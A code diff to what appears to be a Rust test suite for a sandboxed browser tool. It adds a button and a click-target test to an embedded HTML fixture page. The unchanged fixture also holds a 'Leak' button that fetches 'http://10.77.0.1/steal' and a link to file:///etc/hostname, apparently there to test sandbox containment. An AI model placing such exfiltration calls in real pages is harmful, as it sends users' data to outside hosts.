@@ -71,6 +71,7 @@ const PAGE: &str = r#"<!doctype html>
 <p id="out"></p>
 <p id="agent"></p>
 <script>document.getElementById('agent').textContent = 'agent: ' + navigator.userAgent;</script>
+<ul><li style="width: 900px"><button onclick="document.getElementById('out').textContent = 'opened random'">#random</button> <span></span></li></ul>
 <a href="/second.html">Second page</a>
 <a href="file:///etc/hostname">Host file</a>
 <button onclick="fetch('http://10.77.0.1/steal').catch(() => {}); document.title = 'tried'">Leak</button>
@@ -293,6 +294,10 @@ async fn each_browser_tool_works_on_a_page_served_in_the_sandbox() {
         ]
     );
 
+    // The button, not the wide list item around it that holds the same text.
+    h.ok("browser_click", json!({"target": "#random"})).await;
+    let opened = h.ok("browser_read", json!({})).await;
+    assert!(opened.contains("opened random"), "{opened}");
     let second = h
         .ok("browser_click", json!({"target": "Second page"}))
         .await;
